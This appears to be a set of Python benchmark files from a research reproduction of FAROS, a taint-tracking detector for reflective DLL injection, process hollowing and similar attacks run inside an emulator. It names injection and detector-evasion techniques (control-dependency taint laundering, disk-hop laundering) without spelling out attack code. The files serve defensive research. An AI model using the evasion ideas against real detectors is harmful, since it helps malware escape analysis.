        f"Code injection by {rat}\n"
        f"flagged             : True\n"
        f"NetFlow             : {chain.netflow}\n"
        f"process chain       : {' -> '.join(chain.process_chain)}\n"
        f"C2 commands run by victim: {commands}\n\n" + faros.report().render(),
    )
