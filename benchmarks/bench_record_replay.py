"""Record vs replay cost (the §V-C workflow economics).

The paper's usage model is record-cheap / replay-expensive: an analyst
records while doing other work and pays the taint cost only at replay.
This bench measures both phases of the same reflective-DLL recording:

* ``record`` runs uninstrumented (the CPU fast path);
* ``replay+FAROS`` pays full per-instruction instrumentation;

and asserts replay-with-FAROS costs a multiple of recording, plus the
determinism contract (identical retired-instruction counts).
"""

import time

from repro.attacks import build_reflective_dll_scenario
from repro.emulator.record_replay import record, replay
from repro.faros import Faros


def test_record_vs_replay_cost(benchmark, emit):
    attack = build_reflective_dll_scenario()

    def measure():
        start = time.perf_counter()
        recording = record(attack.scenario)
        record_time = time.perf_counter() - start

        faros = Faros()
        start = time.perf_counter()
        machine = replay(recording, plugins=[faros])
        replay_time = time.perf_counter() - start
        return recording, machine, faros, record_time, replay_time

    recording, machine, faros, record_time, replay_time = benchmark.pedantic(
        measure, rounds=3, iterations=1
    )

    assert machine.now == recording.final_instret  # determinism held
    assert faros.attack_detected
    assert replay_time > record_time, "analysis replay must cost more than recording"

    emit(
        "record_vs_replay",
        "Record vs replay (§V-C workflow)\n"
        f"recording run        : {record_time * 1000:.1f} ms "
        f"({recording.final_instret} ticks, uninstrumented)\n"
        f"replay w/ FAROS      : {replay_time * 1000:.1f} ms "
        f"({faros.tracker.stats.instructions} instructions analyzed)\n"
        f"analysis/record cost : {replay_time / record_time:.1f}x\n"
        f"replay deterministic : True",
    )
