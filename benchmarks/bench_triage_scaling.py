"""Batch-triage scaling: the Table IV corpus, serial vs. worker pools.

The paper analyses its 104-sample corpus one at a time; the triage
engine shards it over worker processes.  This bench measures corpus
throughput at 1/2/4/8 workers and -- more importantly -- asserts **zero
verdict drift**: every parallel configuration must produce exactly the
serial verdicts, exit codes, and rendered Table IV.

Standalone smoke run (no pytest needed, used by CI)::

    PYTHONPATH=src python benchmarks/bench_triage_scaling.py --smoke

The smoke run uses a family-balanced subset and a single 4-worker pool;
``--full`` runs all 104 samples at every pool size.  It fails (non-zero
exit) on any verdict drift, or -- on hosts with >= 4 CPUs -- if the
4-worker speedup falls below 2x.  On smaller hosts the speedup gate is
reported but not enforced: a pool cannot beat the hardware.
"""

import os
import sys
import time

import pytest

from repro.analysis.experiments import corpus_fp_experiment, select_corpus_samples
from repro.analysis.tables import render_table4

#: The speedup the 4-worker pool must reach on >= 4-CPU hosts.
REQUIRED_SPEEDUP = 2.0
GATED_WORKERS = 4

SMOKE_LIMIT = 32


def _timed_corpus(jobs, limit):
    start = time.perf_counter()
    results = corpus_fp_experiment(limit=limit, jobs=jobs)
    return results, time.perf_counter() - start


def _verdict_key(results):
    return [(r.sample.name, r.flagged, r.exit_code, r.error) for r in results]


def scaling_report(limit, worker_counts):
    """Run the corpus serially and at each pool size.

    Returns ``(report_text, drift_free, speedups)`` where *speedups*
    maps worker count -> serial_time / pool_time.
    """
    total = len(select_corpus_samples(limit))
    serial_results, serial_s = _timed_corpus(1, limit)
    serial_key = _verdict_key(serial_results)
    serial_table = render_table4(serial_results)
    flagged = sum(r.flagged for r in serial_results)

    lines = [
        f"triage scaling -- {total}-sample corpus "
        f"(host: {os.cpu_count()} CPU(s)), serial flags: {flagged}",
        f"{'workers':<9} {'seconds':<9} {'samples/s':<11} {'speedup':<9} drift",
    ]
    lines.append(
        f"{'serial':<9} {serial_s:<9.2f} {total / serial_s:<11.1f} {'1.00x':<9} -"
    )
    drift_free = True
    speedups = {}
    for workers in worker_counts:
        results, seconds = _timed_corpus(workers, limit)
        same = (
            _verdict_key(results) == serial_key
            and render_table4(results) == serial_table
        )
        drift_free = drift_free and same
        speedups[workers] = serial_s / seconds
        lines.append(
            f"{workers:<9} {seconds:<9.2f} {total / seconds:<11.1f} "
            f"{speedups[workers]:<9.2f} {'none' if same else 'DRIFTED'}"
        )
    return "\n".join(lines), drift_free, speedups


def _gate(drift_free, speedups):
    """Apply the bench's pass/fail rules; returns a list of failures."""
    failures = []
    if not drift_free:
        failures.append("parallel verdicts drifted from serial")
    speedup = speedups.get(GATED_WORKERS)
    if speedup is not None and (os.cpu_count() or 1) >= GATED_WORKERS:
        if speedup < REQUIRED_SPEEDUP:
            failures.append(
                f"{GATED_WORKERS}-worker speedup {speedup:.2f}x "
                f"< required {REQUIRED_SPEEDUP}x"
            )
    return failures


@pytest.mark.slow
def test_triage_scaling_full_corpus(emit):
    report, drift_free, speedups = scaling_report(limit=None, worker_counts=(2, 4, 8))
    emit("triage_scaling", report)
    failures = _gate(drift_free, speedups)
    assert not failures, "; ".join(failures)


def main(argv):
    if "--full" in argv:
        limit, worker_counts = None, (2, 4, 8)
    elif "--smoke" in argv:
        limit, worker_counts = SMOKE_LIMIT, (GATED_WORKERS,)
    else:
        print(__doc__)
        return 2
    report, drift_free, speedups = scaling_report(limit, worker_counts)
    print(report)
    failures = _gate(drift_free, speedups)
    if (os.cpu_count() or 1) < GATED_WORKERS:
        print(
            f"note: host has {os.cpu_count()} CPU(s); the "
            f"{REQUIRED_SPEEDUP}x speedup gate needs >= {GATED_WORKERS} "
            "and is reported, not enforced"
        )
    if failures:
        for failure in failures:
            print(f"FAIL: {failure}", file=sys.stderr)
        return 1
    print("OK")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
