"""Shared fixtures for the benchmark harness.

Every bench regenerates one paper artifact (table or figure), asserts
its expected *shape* (who wins, what is flagged), and emits the
rendered artifact both to stdout and to ``benchmarks/results/<name>.txt``
so the output survives pytest's capture.
"""

import pathlib

import pytest

RESULTS_DIR = pathlib.Path(__file__).parent / "results"


@pytest.fixture
def emit(capsys):
    """Write a rendered artifact to benchmarks/results/ and echo it."""

    def _emit(name: str, text: str) -> None:
        RESULTS_DIR.mkdir(exist_ok=True)
        path = RESULTS_DIR / f"{name}.txt"
        path.write_text(text + "\n")
        with capsys.disabled():
            print(f"\n===== {name} =====\n{text}\n")

    return _emit
