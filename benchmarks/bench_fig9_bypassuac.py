"""E3 (Fig. 9): bypassuac_injection targeting firefox.exe."""

from repro.analysis.experiments import run_attack_analysis
from repro.attacks import build_bypassuac_injection_scenario


def _run():
    return run_attack_analysis("bypassuac_injection", build_bypassuac_injection_scenario())


def test_fig9_bypassuac_injection(benchmark, emit):
    analysis = benchmark.pedantic(_run, rounds=3, iterations=1)

    assert analysis.detected
    chain = analysis.chain
    assert chain.netflow is not None
    assert "inject_client.exe" in chain.process_chain
    assert "firefox.exe" in chain.process_chain
    assert chain.executing_process == "firefox.exe"

    lines = [
        "Fig. 9 -- reflective DLL injection via bypassuac_injection",
        f"flagged instruction : {chain.instruction} @ {chain.instruction_address:#x}",
        f"NetFlow             : {chain.netflow}",
        f"process chain       : {' -> '.join(chain.process_chain)}",
        f"export table read   : {chain.export_table_address:#x}",
        "",
        analysis.report.render(),
    ]
    emit("fig9_bypassuac_injection", "\n".join(lines))
