"""Extension bench: drop-and-reload attack with lineage stitching.

Not a paper table -- the DESIGN.md extension exercising FAROS' file
tags end-to-end: the disk hop launders direct netflow taint, detection
survives via cross-process confluence, and the per-version file lineage
recovers the attacker endpoint for the analyst.
"""

from repro.attacks import build_drop_reload_scenario
from repro.faros import Faros


def test_drop_reload_with_lineage(benchmark, emit):
    def _run():
        attack = build_drop_reload_scenario()
        faros = Faros()
        machine = attack.scenario.run(plugins=[faros])
        return faros, machine

    faros, machine = benchmark.pedantic(_run, rounds=3, iterations=1)

    assert faros.attack_detected
    chain = faros.report().chains()[0]
    assert chain.netflow is None                    # laundered by the disk
    assert chain.stitched_netflow is not None       # ...and recovered
    assert "dropper.exe" in chain.upstream_processes
    assert not machine.kernel.fs.exists("C:\\stage.bin")

    emit(
        "drop_reload_lineage",
        "Drop-and-reload attack (extension)\n"
        f"detected                : True ({chain.rule})\n"
        f"direct netflow in chain : {chain.netflow}\n"
        f"file origin             : {', '.join(chain.file_origins)}\n"
        f"stitched netflow        : {chain.stitched_netflow}\n"
        f"upstream processes      : {' -> '.join(chain.upstream_processes)}\n\n"
        + faros.report().render(),
    )
