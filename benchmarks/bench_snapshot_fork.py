"""Microbenchmark: warm snapshot forks vs cold scenario boots.

``repro serve`` keeps a :class:`~repro.serve.pool.SnapshotPool` of
pre-captured post-boot machine images so a triage job's dispatch cost
is a fork (page blit + kernel thaw + boot-event replay), not a full
scenario build + kernel boot.  This bench prices both dispatch paths
for one attack and enforces two gates:

* **speed**: warm dispatch is at least **5x** faster than a cold boot
  (best-of timings, interleaved round-robin against host noise);
* **zero drift**: a recording taken from a fork equals the cold
  recording event-for-event (same journal, same final instret) -- warmth
  must never buy speed with fidelity.

Timings mirror the pool's real behaviour: the snapshot's integrity
digest is verified once per refill batch, and each fork materializes
with ``verify=False`` (exactly what :meth:`SnapshotPool.refill` does).

Standalone smoke run (no pytest needed, used by CI)::

    PYTHONPATH=src python benchmarks/bench_snapshot_fork.py --smoke
"""

import sys
import time

import pytest

from repro.analysis.triage import ATTACK_BUILDER_REGISTRY
from repro.emulator.machine import Machine
from repro.emulator.record_replay import record
from repro.emulator.snapshot import MachineSnapshot, snapshot_record

ATTACK = "code_injection"
REPS = 25
GATE = 5.0


def _cold_dispatch():
    """The pre-pool path: build the scenario, boot, run its setup."""
    scenario = ATTACK_BUILDER_REGISTRY[ATTACK]().scenario
    machine = Machine(scenario.config)
    scenario.setup(machine)
    return machine


def compare_dispatch(reps=REPS):
    """Time both dispatch paths; returns (speedup, report)."""
    snapshot = MachineSnapshot.capture(ATTACK_BUILDER_REGISTRY[ATTACK]().scenario)
    cold_best = warm_best = float("inf")
    for _ in range(reps):
        start = time.perf_counter()
        _cold_dispatch()
        cold_best = min(cold_best, time.perf_counter() - start)

        start = time.perf_counter()
        snapshot.verify()  # once per "refill batch" of one
        machine = snapshot.materialize(verify=False)
        snapshot.arm(machine, ())
        warm_best = min(warm_best, time.perf_counter() - start)

    # The drift gate: one full record from each path, compared exactly.
    cold_rec = record(ATTACK_BUILDER_REGISTRY[ATTACK]().scenario)
    warm_rec = snapshot_record(snapshot)
    drift = []
    if cold_rec.final_instret != warm_rec.final_instret:
        drift.append(
            f"final_instret {cold_rec.final_instret} != {warm_rec.final_instret}")
    cold_journal = [(t, repr(e)) for t, e in cold_rec.journal]
    warm_journal = [(t, repr(e)) for t, e in warm_rec.journal]
    if cold_journal != warm_journal:
        drift.append("record journals diverge")

    speedup = cold_best / warm_best
    lines = [
        f"snapshot fork dispatch, attack={ATTACK} (best of {reps})",
        f"  cold boot : {cold_best * 1e3:7.3f} ms  (scenario build + kernel boot)",
        f"  warm fork : {warm_best * 1e3:7.3f} ms  (verify + blit + thaw + replay)",
        f"  speedup   : {speedup:.1f}x  (gate: >= {GATE:.0f}x)",
        f"  drift     : {'none' if not drift else '; '.join(drift)}",
        f"  resident  : {snapshot.image.resident_pages} pages, "
        f"{len(snapshot.state_blob)}-byte kernel state",
    ]
    return speedup, drift, "\n".join(lines)


def test_fork_dispatch_has_zero_drift():
    """Cheap correctness probe: the drift gate alone, few reps."""
    _, drift, _ = compare_dispatch(reps=1)
    assert not drift, drift


@pytest.mark.slow
def test_warm_dispatch_at_least_five_times_faster(emit):
    speedup, drift, report = compare_dispatch()
    emit("snapshot_fork", report)
    assert not drift, drift
    assert speedup >= GATE, \
        f"warm dispatch only {speedup:.1f}x faster (gate: {GATE:.0f}x)"


def main(argv):
    if "--smoke" not in argv:
        print(__doc__)
        return 2
    speedup, drift, report = compare_dispatch()
    print(report)
    if drift:
        print(f"FAIL: fork drifted from cold boot: {drift}", file=sys.stderr)
        return 1
    if speedup < GATE:
        print(f"FAIL: warm dispatch {speedup:.1f}x < {GATE:.0f}x", file=sys.stderr)
        return 1
    print("OK")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
