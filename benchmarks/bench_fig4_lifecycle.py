"""Fig. 4: the provenance life cycle of a byte.

Regenerates the paper's concept figure as a measured artifact: network
data flows through two processes and a file to a third process, and the
provenance chronology (plus the file-lineage splice) reads exactly
``NetFlow -> P1 -> P2 -> File1 -> P3``.
"""

from repro.analysis.lifecycle import byte_lifecycle_experiment, render_lifecycle


def test_fig4_byte_lifecycle(benchmark, emit):
    result = benchmark.pedantic(byte_lifecycle_experiment, rounds=3, iterations=1)

    assert result.payload_intact
    river = " -> ".join(result.stitched_river)
    positions = [
        river.index(w)
        for w in ("NetFlow", "courier.exe", "broker.exe", "file1.dat", "consumer.exe")
    ]
    assert positions == sorted(positions), river

    emit("fig4_lifecycle", render_lifecycle(result))
