"""E12 (§VI-D): evasion studies.

1. Control-dependency taint laundering: the bit-copy loop evades
   default FAROS (the paper's admitted limitation) and is caught after
   the anticipated policy update (control-dependency tracking on).
2. Tag-memory pressure: guest activity mints file/netflow tags; the
   bench measures map growth against the 16-bit ``prov_tag`` ceiling.
"""

from repro.analysis.evasion import (
    tag_pressure_experiment,
    taint_laundering_experiment,
)


def test_evasion_taint_laundering(benchmark, emit):
    result = benchmark.pedantic(taint_laundering_experiment, rounds=1, iterations=1)

    assert result.stage_ran, "ground truth: the laundered stage executed"
    assert result.default_policy_detected is False
    assert result.control_dep_policy_detected is True

    emit(
        "evasion_laundering",
        "E12a -- control-dependency taint laundering (§VI-D)\n"
        f"stage executed (ground truth)        : {result.stage_ran}\n"
        f"default FAROS policy detected        : {result.default_policy_detected}"
        "   <- evasion succeeds\n"
        f"control-dep policy detected          : {result.control_dep_policy_detected}"
        "   <- policy update catches it",
    )


def test_evasion_tag_pressure(benchmark, emit):
    result = benchmark.pedantic(
        lambda: tag_pressure_experiment(file_rounds=40, flows=20),
        rounds=1,
        iterations=1,
    )

    assert result.file_tags >= 40      # one per write version
    assert result.netflow_tags >= 20   # one per probe flow
    assert result.map_capacity == 65536
    assert 0 < result.file_map_utilisation < 1

    emit(
        "evasion_tag_pressure",
        "E12b -- tag-memory pressure (§VI-D)\n"
        f"file tags minted     : {result.file_tags}\n"
        f"netflow tags minted  : {result.netflow_tags}\n"
        f"process tags         : {result.process_tags}\n"
        f"tainted bytes        : {result.tainted_bytes}\n"
        f"map capacity         : {result.map_capacity} per type\n"
        f"file-map utilisation : {result.file_map_utilisation:.4%}",
    )
