"""E8 (Table IV): the full 104-sample false-positive corpus.

90 non-injecting malware samples (17 RAT configurations) + 14 benign
applications, every one run to completion under FAROS.  Expected: zero
flags and zero crashes -- the paper's 0% corpus FP result.
"""

from repro.analysis.experiments import corpus_fp_experiment, fp_rate
from repro.analysis.tables import render_table4, render_table4_matrix


def test_table4_corpus_false_positives(benchmark, emit):
    results = benchmark.pedantic(corpus_fp_experiment, rounds=1, iterations=1)

    assert len(results) == 104
    assert sum(1 for r in results if not r.sample.benign) == 90
    assert sum(1 for r in results if r.sample.benign) == 14
    assert all(r.exit_code == 0 for r in results), "every sample must finish"
    flagged = [r for r in results if r.flagged]
    assert flagged == [], f"false positives: {[r.sample.name for r in flagged]}"
    assert fp_rate(len(flagged), len(results)) == 0.0

    emit(
        "table4_corpus_fp",
        render_table4_matrix(results) + "\n\n" + render_table4(results),
    )
