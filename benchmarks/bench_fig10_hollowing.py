"""E4 (Fig. 10): process hollowing of svchost.exe (keylogger payload).

The distinguishing shape: no NetFlow node in the chain -- the stage
came out of the malware's own image -- and the confluence is
cross-process + export-table.
"""

from repro.analysis.experiments import run_attack_analysis
from repro.attacks import build_process_hollowing_scenario


def _run():
    return run_attack_analysis("process_hollowing", build_process_hollowing_scenario())


def test_fig10_process_hollowing(benchmark, emit):
    analysis = benchmark.pedantic(_run, rounds=3, iterations=1)

    assert analysis.detected
    chain = analysis.chain
    assert chain.netflow is None
    assert "process_hollowing.exe" in chain.process_chain
    assert "svchost.exe" in chain.process_chain
    assert chain.rule == "cross-process+export-table"
    assert any("process_hollowing.exe" in f for f in chain.file_origins)

    lines = [
        "Fig. 10 -- provenance tracking for process hollowing/replacement",
        f"flagged instruction : {chain.instruction} @ {chain.instruction_address:#x}",
        f"NetFlow             : (none -- stage embedded in the malware image)",
        f"file origin         : {', '.join(chain.file_origins)}",
        f"process chain       : {' -> '.join(chain.process_chain)}",
        f"export table read   : {chain.export_table_address:#x}",
        f"rule                : {chain.rule}",
        "",
        analysis.report.render(),
    ]
    emit("fig10_process_hollowing", "\n".join(lines))
