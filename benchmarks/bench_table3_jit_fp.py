"""E7 (Table III): JIT false positives over 10 applets + 10 AJAX sites.

Expected shape: exactly two Java applets flagged (the native-binding
ones), zero AJAX flags -- the paper's 10%-of-applets / 2%-overall FP
mechanism.
"""

from repro.analysis.experiments import jit_fp_experiment
from repro.analysis.tables import render_table3
from repro.faros import Faros, Whitelist
from repro.workloads.jit import NATIVE_BINDING_APPLETS, build_jit_scenario


def test_table3_jit_false_positives(benchmark, emit):
    results = benchmark.pedantic(jit_fp_experiment, rounds=1, iterations=1)

    assert len(results) == 20
    flagged = [r for r in results if r.flagged]
    assert len(flagged) == 2
    assert all(r.kind == "applet" for r in flagged)
    assert all(r.flagged == r.expected_flag for r in results)

    # The paper's triage step: the analyst whitelists the JIT runtime
    # and the false positives dismiss cleanly.
    survivors = 0
    for name in NATIVE_BINDING_APPLETS:
        faros = Faros()
        build_jit_scenario(name, "applet").scenario.run(plugins=[faros])
        survivors += len(Whitelist().remaining(faros.detector.flagged))
    assert survivors == 0

    emit(
        "table3_jit_fp",
        render_table3(results)
        + "\nafter analyst whitelist of JIT runtimes: 0 flags remain",
    )
