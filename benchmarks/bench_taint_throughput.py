"""Microbenchmarks: raw emulation vs whole-system taint throughput.

Not a paper table -- the ablation DESIGN.md calls out: what does each
layer of FAROS cost per retired instruction?  Three configurations over
the same compute-heavy guest (no plugins, bare tracker, full FAROS),
plus the **fast-path benchmark**: a mixed workload where taint arrives
mid-run (the paper's netflow-arrival shape) executed under both the
optimised :class:`~repro.taint.tracker.TaintTracker` and the kept
:class:`~repro.taint.reference.ReferenceTaintTracker`, asserting the
fast path is drift-free and >= 2x faster, and the **bulk-copy/DMA
benchmark**: a packet-arrival workload whose kernel copies and netflow
seeding run through array-backed shadow pages vs the dict-only
configuration, gated at >= 2x with zero drift down to the interner
counters.

Standalone smoke run (no pytest needed, used by CI)::

    PYTHONPATH=src python benchmarks/bench_taint_throughput.py --smoke

It fails (non-zero exit) if the fast path's shadow state drifts from
the reference or the speedup collapses below 2x.
"""

import sys
import time

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.faros import Faros
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble
from repro.isa.cpu import AccessKind
from repro.taint.intern import ProvInterner
from repro.taint.pipeline import TaintPipeline
from repro.taint.policy import TaintPolicy
from repro.taint.reference import ReferenceTaintTracker
from repro.taint.tags import Tag, TagStore, TagType
from repro.taint.tracker import TaintTracker

WORK = """
start:
    movi r5, 4000
loop:
    muli r6, r6, 3
    addi r6, r6, 7
    xori r6, r6, 0x55
    subi r5, r5, 1
    cmpi r5, 0
    jnz loop
    movi r1, 0
    movi r0, SYS_EXIT
    syscall
"""


def _run(plugins):
    machine = Machine(MachineConfig())
    for plugin in plugins:
        machine.plugins.register(plugin)
    machine.kernel.register_image(
        "work.exe", assemble(program(WORK), base=layout.IMAGE_BASE)
    )
    machine.kernel.spawn("work.exe")
    machine.run(100_000)
    return machine


def test_throughput_bare_emulation(benchmark):
    machine = benchmark(lambda: _run([]))
    assert machine.kernel.processes[100].exit_code == 0


def test_throughput_tracker_only(benchmark):
    machine = benchmark(
        lambda: _run([TaintTracker(policy=TaintPolicy(process_tags_on_access=False))])
    )
    assert machine.kernel.processes[100].exit_code == 0


def test_throughput_full_faros(benchmark):
    machine = benchmark(lambda: _run([Faros()]))
    assert machine.kernel.processes[100].exit_code == 0


# ======================================================================
# the fast-path benchmark: mixed workload, reference vs optimised
# ======================================================================

SEED = Tag(TagType.NETFLOW, 1)

#: ~86% clean warm-up (taint-free: the gated tracker runs the machine's
#: uninstrumented loop), then a copy loop that repeatedly moves a
#: tainted word with clean compute in between (per-instruction all-clean
#: exits + interned provenance on the copies).  ``pad`` pushes the data
#: onto its own 4 KiB shadow page so the code's fetch pages stay clean.
MIXED_WORK = """
start:
    movi r5, 30000
clean:
    muli r6, r6, 3
    addi r6, r6, 7
    xori r6, r6, 0x55
    subi r5, r5, 1
    cmpi r5, 0
    jnz clean
    movi r5, 300
outer:
    movi r4, 20
inner:
    muli r6, r6, 3
    addi r6, r6, 7
    subi r4, r4, 1
    cmpi r4, 0
    jnz inner
    movi r7, src
    ld r1, [r7]
    movi r7, dst
    st [r7], r1
    movi r1, 0
    subi r5, r5, 1
    cmpi r5, 0
    jnz outer
park:
    movi r1, 10000000
    movi r0, SYS_SLEEP
    syscall
    hlt
pad: .space 8192
src: .word 0xfeedface
dst: .word 0
"""

TAINT_ARRIVES_AT = 180_000
BUDGET = 220_000


class TaintArrival:
    """A scheduled event that seeds taint mid-run (netflow arrival)."""

    def __init__(self, tracker):
        self.tracker = tracker
        self.paddrs = ()

    def deliver(self, machine):
        self.tracker.pipeline.taint(self.paddrs, SEED)

    def __repr__(self):
        return "TaintArrival()"


def run_mixed(tracker, translate=True):
    """Run the mixed workload under *tracker*, timing each phase.

    Returns ``(machine, secs_clean, secs_taint)``: the wall time of the
    taint-free warm-up (everything before the scheduled arrival) and of
    the taint-active remainder, separately.  The split is what lets the
    translated-taint gate measure the phase it actually accelerates --
    folding both into one number would let clean-phase wins mask a
    taint-phase regression.
    """
    machine = Machine(MachineConfig(translate=translate))
    machine.plugins.register(tracker)
    prog = assemble(program(MIXED_WORK), base=layout.IMAGE_BASE)
    machine.kernel.register_image("mixed.exe", prog)
    proc = machine.kernel.spawn("mixed.exe")
    event = TaintArrival(tracker)
    event.paddrs = proc.aspace.translate_range(prog.label("src"), 4, AccessKind.READ)
    machine.schedule(TAINT_ARRIVES_AT, event)
    start = time.perf_counter()
    machine.run(TAINT_ARRIVES_AT)
    mid = time.perf_counter()
    machine.run(BUDGET - TAINT_ARRIVES_AT)
    end = time.perf_counter()
    return machine, mid - start, end - mid


def compare_fast_vs_reference():
    """One paired run; returns the rendered report (raises on drift)."""
    fast = TaintTracker(
        policy=TaintPolicy(process_tags_on_access=False), interner=ProvInterner()
    )
    ref = ReferenceTaintTracker(policy=TaintPolicy(process_tags_on_access=False))
    machine_fast, clean_fast, taint_fast = run_mixed(fast)
    machine_ref, clean_ref, taint_ref = run_mixed(ref)
    secs_fast = clean_fast + taint_fast
    secs_ref = clean_ref + taint_ref

    assert machine_fast.now == machine_ref.now, "instruction streams diverged"
    assert fast.stats.instructions == ref.stats.instructions
    assert fast.shadow.snapshot() == ref.shadow.snapshot(), "shadow state drifted"
    assert fast.shadow.tainted_bytes == ref.shadow.tainted_bytes
    assert fast.shadow.tainted_bytes > 0, "workload moved no taint"
    assert (
        fast.stats.instructions
        == fast.stats.fast_retirements + fast.stats.slow_retirements
    )
    assert fast.stats.fast_retirements > 0 and fast.stats.slow_retirements > 0

    speedup = secs_ref / secs_fast
    ipsec_fast = fast.stats.instructions / secs_fast
    ipsec_ref = ref.stats.instructions / secs_ref
    lines = [
        "fast-path vs reference, mixed workload "
        f"({fast.stats.instructions} insns, taint arrives at {TAINT_ARRIVES_AT})",
        f"  reference : {secs_ref:6.2f}s  {ipsec_ref:10.0f} insn/s  "
        f"(slow={ref.stats.slow_retirements})",
        f"  fast path : {secs_fast:6.2f}s  {ipsec_fast:10.0f} insn/s  "
        f"(fast={fast.stats.fast_retirements}, slow={fast.stats.slow_retirements})",
        f"  speedup   : {speedup:.2f}x",
        f"  interner  : {fast.interner.cache_sizes()} "
        f"hits={fast.interner.hits} misses={fast.interner.misses}",
        f"  drift     : none ({fast.shadow.tainted_bytes} tainted bytes identical)",
    ]
    return speedup, "\n".join(lines)


def compare_translate_on_vs_off():
    """The translated-taint gate: fast tracker, translate on vs off.

    Both runs use the identical optimised tracker; the only variable is
    whether instrumented slices execute block-at-a-time through the
    translated-tainted tier or instruction-at-a-time through
    ``cpu.step``.  Asserts zero drift across everything an analysis
    consumer can observe (instret, taint stats, interner counters, the
    full shadow snapshot) and that the taint tier actually fused blocks
    (rather than silently single-stepping everything), then returns the
    taint-active-phase speedup.
    """
    results = {}
    for translate in (True, False):
        tracker = TaintTracker(
            policy=TaintPolicy(process_tags_on_access=False), interner=ProvInterner()
        )
        machine, secs_clean, secs_taint = run_mixed(tracker, translate=translate)
        results[translate] = (machine, tracker, secs_clean, secs_taint)

    machine_on, on, clean_on, taint_on = results[True]
    machine_off, off, clean_off, taint_off = results[False]

    assert machine_on.now == machine_off.now, "instruction streams diverged"
    assert on.stats.instructions == off.stats.instructions
    assert on.stats.fast_retirements == off.stats.fast_retirements
    assert on.stats.slow_retirements == off.stats.slow_retirements
    assert (on.interner.hits, on.interner.misses) == (
        off.interner.hits,
        off.interner.misses,
    ), "interner call sequences diverged"
    assert on.shadow.snapshot() == off.shadow.snapshot(), "shadow state drifted"
    assert on.shadow.tainted_bytes == off.shadow.tainted_bytes > 0
    tstats = machine_on.translator.stats()
    assert tstats["taint_executions"] > 0, "taint tier never fused a block"

    clean_speedup = clean_off / clean_on
    taint_speedup = taint_off / taint_on
    lines = [
        "translated taint vs interpreter taint, mixed workload "
        f"({on.stats.instructions} insns, taint arrives at {TAINT_ARRIVES_AT})",
        f"  clean phase : on={clean_on:6.2f}s off={clean_off:6.2f}s  "
        f"{clean_speedup:.2f}x",
        f"  taint phase : on={taint_on:6.2f}s off={taint_off:6.2f}s  "
        f"{taint_speedup:.2f}x",
        f"  taint tier  : executions={tstats['taint_executions']} "
        f"single_steps={tstats['taint_single_steps']} "
        f"dirty_exits={tstats['taint_dirty_exits']}",
        f"  drift       : none ({on.shadow.tainted_bytes} tainted bytes, "
        f"fast={on.stats.fast_retirements} slow={on.stats.slow_retirements} "
        "identical)",
    ]
    return taint_speedup, "\n".join(lines)


# ======================================================================
# the bulk-copy/DMA benchmark: array-backed shadow pages vs dict-only
# ======================================================================

#: Physical windows for the DMA-shaped workload (low reserved memory,
#: no process owns them; the trackers are driven directly through the
#: same plugin callbacks the kernel/NIC paths invoke).
DMA_RING = 0x4000
STAGE_BASE = 0x10000
IMAGE_DEST = 0x20000
PACKET_BYTES = 1400  # MTU-ish payload


class _Actor:
    """The only thing ``on_phys_copy`` needs from an acting process."""

    cr3 = 0x7777


def run_bulk_copy_workload(mode, rounds):
    """Packet-arrival churn: DMA write, netflow seed, two kernel copies.

    Every round mimics the recv pipeline's taint traffic -- an inbound
    payload lands in the DMA ring (``on_phys_write`` clears, then
    ``taint_range`` seeds the netflow tag), the kernel copies it to the
    process buffer and the loader copies it on into an image region
    (``on_phys_copy`` with an acting process, so every tainted byte
    takes a process-tag append en route).  The per-byte ``paddrs``
    tuples are built exactly as the MMU emits them.
    """
    tags = TagStore()
    tracker = TaintTracker(
        policy=TaintPolicy(process_tags_on_access=True),
        tags=tags,
        interner=ProvInterner(),
        shadow_mode=mode,
    )
    actor = _Actor()
    dma = tuple(range(DMA_RING, DMA_RING + PACKET_BYTES))
    start = time.perf_counter()
    for i in range(rounds):
        flow = tags.netflow_tag("9.9.9.9", 4444, "10.0.0.1", 49152 + (i % 7))
        tracker.pipeline.phys_write(dma, source="nic")
        tracker.pipeline.taint(dma, flow)
        stage = STAGE_BASE + (i % 4) * PACKET_BYTES
        stage_paddrs = tuple(range(stage, stage + PACKET_BYTES))
        tracker.pipeline.phys_copy(stage_paddrs, dma, tracker.resolve_actor_tag(actor))
        dest = IMAGE_DEST + (i % 16) * PACKET_BYTES
        dest_paddrs = tuple(range(dest, dest + PACKET_BYTES))
        tracker.pipeline.phys_copy(dest_paddrs, stage_paddrs, tracker.resolve_actor_tag(actor))
    secs = time.perf_counter() - start
    return tracker, secs


def compare_bulk_copy_modes(rounds=80):
    """The bulk-copy/DMA gate: array-capable shadow vs dict-only.

    Identical op sequences through ``shadow_mode="auto"`` and
    ``shadow_mode="dict"`` trackers (each with its own interner and tag
    store, minted in the same order).  Asserts zero drift across the
    shadow snapshot, byte counts, tracker stats, and the interner
    hit/miss counters -- the bulk ops must score exactly what the
    per-byte loops score -- then returns the measured speedup.
    """
    bulk, secs_bulk = run_bulk_copy_workload("auto", rounds)
    dict_only, secs_dict = run_bulk_copy_workload("dict", rounds)

    assert bulk.shadow.snapshot() == dict_only.shadow.snapshot(), (
        "shadow state drifted between representations"
    )
    assert bulk.shadow.tainted_bytes == dict_only.shadow.tainted_bytes > 0
    assert bulk.stats.kernel_copies == dict_only.stats.kernel_copies
    assert bulk.stats.external_writes == dict_only.stats.external_writes
    assert bulk.stats.process_tag_appends == dict_only.stats.process_tag_appends
    assert (bulk.interner.hits, bulk.interner.misses) == (
        dict_only.interner.hits,
        dict_only.interner.misses,
    ), "interner call sequences diverged between representations"
    assert bulk.shadow.array_page_count > 0, "bulk leg never built an array page"

    speedup = secs_dict / secs_bulk
    moved = bulk.stats.kernel_copies * PACKET_BYTES
    lines = [
        "bulk-copy/DMA phase, array-backed shadow vs dict-only "
        f"({rounds} packets, {moved} copied bytes)",
        f"  dict-only : {secs_dict:6.3f}s",
        f"  array/auto: {secs_bulk:6.3f}s  "
        f"(array_pages={bulk.shadow.array_page_count}, "
        f"promotions={bulk.shadow.promotions}, "
        f"demotions={bulk.shadow.demotions})",
        f"  speedup   : {speedup:.2f}x",
        f"  drift     : none ({bulk.shadow.tainted_bytes} tainted bytes, "
        f"appends={bulk.stats.process_tag_appends}, "
        f"interner hits={bulk.interner.hits} misses={bulk.interner.misses} "
        "identical)",
    ]
    return speedup, "\n".join(lines)


# ======================================================================
